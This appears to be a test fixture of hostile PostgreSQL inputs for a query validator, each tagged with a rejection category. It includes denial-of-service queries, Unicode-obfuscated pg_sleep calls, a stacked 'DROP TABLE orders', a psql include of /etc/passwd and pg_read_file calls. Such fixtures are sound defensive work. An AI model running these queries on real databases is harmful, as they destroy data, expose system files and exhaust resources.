SELECT * FROM generate_series(1, 10, 0)
-- [size.series] series of a huge float
SELECT * FROM generate_series(1, 1e9)
-- [size.series] series of a negative huge
SELECT * FROM generate_series(-999999999, 999999999)
-- [size.recursion] recursion with OR TRUE
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10 OR TRUE) SELECT * FROM r
-- [size.recursion] recursion without WHERE, cut outside
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT * FROM r LIMIT 5
-- [size.recursion] recursion by multiplication
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n FROM r, generate_series(1, 10)) SELECT count(*) FROM r
-- [size.recursion] recursion upwards forever
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n > 0) SELECT count(*) FROM r
-- [size.text] repeat by a huge product
SELECT repeat('x', 10000 * 10000)
-- [size.text] repeat by a subquery
SELECT repeat('x', (SELECT 1000000000))
-- [function.unknown] array of repeats
SELECT array_fill(0, ARRAY[100000000])
-- [size.text] string of a huge pad
SELECT rpad('x', 2147483647, 'y')
-- [function.unknown] regular expression that backtracks
SELECT pg_sleep(0), 'aaaaaaaaaaaaaaaaaaaaaaaa' ~ '(a+)+$'
-- [text.character] zero-width space in a function
SELECT pg​_sleep(1)
-- [function.unknown] full-width letters
SELECT ｐｇ＿ｓｌｅｅｐ(1)
-- [text.character] right-to-left mark
SELECT 1 ‮ FROM orders
-- [text.character] byte order mark
﻿SELECT pg_sleep(1)
-- [statement.many] semicolon without a space
SELECT 1;SELECT pg_sleep(1)
-- [statement.many] semicolons and comments
SELECT 1;--
DROP TABLE orders
-- [statement.many] semicolon in brackets
SELECT (1;SELECT 2)
-- [text.syntax] psql command
SELECT 1 \gexec
-- [text.syntax] psql variable
SELECT :'x'
-- [statement.kind] psql include
\i /etc/passwd
-- [name.variable] positional parameter
SELECT $1::int
-- [node.Placeholder] percent parameter
SELECT %s
-- [node.Placeholder] percent name
SELECT %(x)s
-- [node.Placeholder] named question
SELECT ?
-- [function.unknown] cursor function
SELECT * FROM cursor_to_xml('c', 1, false, false, '')
-- [type.unknown] refcursor type
SELECT 'x'::refcursor
-- [type.unknown] cast to anyelement
SELECT 'x'::anyelement
-- [text.syntax] cast to trigger
SELECT 'x'::trigger
-- [type.unknown] cast to void
SELECT 'x'::void
-- [type.unknown] cast to pg_lsn
SELECT '0/0'::pg_lsn
-- [type.unknown] cast to aclitem
SELECT 'x'::aclitem
-- [type.unknown] cast to a quoted type
SELECT 'x'::"char"
-- [text.syntax] CURRENT OF
SELECT * FROM orders WHERE CURRENT OF c
-- [function.unknown] GROUP BY DISTINCT with a function
SELECT 1 FROM orders GROUP BY DISTINCT pg_sleep(1)
-- [statement.empty] SELECT without columns
SELECT FROM orders
-- [statement.empty] SELECT nothing
SELECT
-- [function.unknown] JSON table with a function
SELECT * FROM JSON_TABLE(pg_read_file('x')::jsonb, '$' COLUMNS (a int PATH '$'))
-- [function.unknown] JSON serialise
SELECT JSON_SERIALIZE(pg_read_file('x'))
-- [text.number] a name glued to a number
SELECT 1x FROM t
-- [size.text] tower of regexp_replace
SELECT regexp_replace(regexp_replace(regexp_replace(regexp_replace(a, 'x', b, 'g'), 'x', b, 'g'), 'x', b, 'g'), 'x', b, 'g') FROM t
